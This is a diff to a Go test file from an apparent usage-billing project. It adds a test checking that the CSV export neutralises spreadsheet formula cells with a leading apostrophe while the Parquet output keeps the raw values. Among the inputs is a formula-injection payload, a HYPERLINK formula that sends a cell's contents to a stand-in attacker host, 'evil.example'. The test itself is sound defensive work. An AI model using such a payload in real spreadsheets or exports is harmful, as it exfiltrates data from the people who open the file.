@@ -9,6 +9,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/parquet-go/parquet-go"
+
 	"github.com/slicemeter/slicemeter/attribution/report"
 )
 
@@ -136,6 +138,58 @@ func TestResourceType(t *testing.T) {
 	} {
 		if got := *Usage(report.AllocationRow{Kind: tc.kind, Fraction: 1, Allocated: time.Hour}, Period{}, DefaultIssuer).ResourceType; got != tc.want {
 			t.Errorf("kind %q: ResourceType %q, want %q", tc.kind, got, tc.want)
+		}
+	}
+}
+
+// TestCSVFormulaCells: a text cell a spreadsheet would evaluate (a scheduler's allocation id,
+// and the description that quotes it) gets a leading ' in the CSV, as in the other CSV
+// writers; numbers stay numbers and the Parquet file keeps the raw value.
+func TestCSVFormulaCells(t *testing.T) {
+	p := PeriodOf(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.UTC)
+	for _, id := range []string{`=HYPERLINK("http://evil.example/?x="&A2,"click")`, "+1", "-1", "@SUM(A1)", "\tx", "\rx"} {
+		r := Usage(report.AllocationRow{Tenant: "acme", AllocationID: id, Tier: "std", Node: "n", Instance: "i", Kind: "mig",
+			Model: "A100", Profile: "1g.10gb", Fraction: 1, Allocated: time.Hour, ListCost: -1, Cost: -1, Currency: "USD",
+			WindowStart: p.Start, WindowEnd: p.Start.Add(time.Hour)}, p, DefaultIssuer)
+		var csvOut, pqOut bytes.Buffer
+		for _, out := range []struct {
+			b *bytes.Buffer
+			f Format
+		}{{&csvOut, CSV}, {&pqOut, Parquet}} {
+			w, err := NewWriter(out.b, out.f)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Write(r); err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+		}
+		rows, err := csv.NewReader(&csvOut).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%q: %d rows, %v", id, len(rows), err)
+		}
+		col := map[string]string{}
+		for i, name := range rows[0] {
+			col[name] = rows[1][i]
+		}
+		if got := col["x_AllocationId"]; got != "'"+id {
+			t.Errorf("x_AllocationId %q, want %q", got, "'"+id)
+		}
+		if got := col["ChargeDescription"]; got != "'"+r.ChargeDescription {
+			t.Errorf("ChargeDescription %q, want %q", got, "'"+r.ChargeDescription)
+		}
+		if got := col["BilledCost"]; got != "-1.0" {
+			t.Errorf("BilledCost %q, want -1.0 (a number is never prefixed)", got)
+		}
+		pq, err := parquet.Read[Row](bytes.NewReader(pqOut.Bytes()), int64(pqOut.Len()))
+		if err != nil || len(pq) != 1 {
+			t.Fatalf("%q: Parquet %d rows, %v", id, len(pq), err)
+		}
+		if pq[0].XAllocationID == nil || *pq[0].XAllocationID != id || pq[0].ChargeDescription != r.ChargeDescription {
+			t.Errorf("Parquet x_AllocationId %v, ChargeDescription %q: want the raw %q", pq[0].XAllocationID, pq[0].ChargeDescription, id)
 		}
 	}
 }
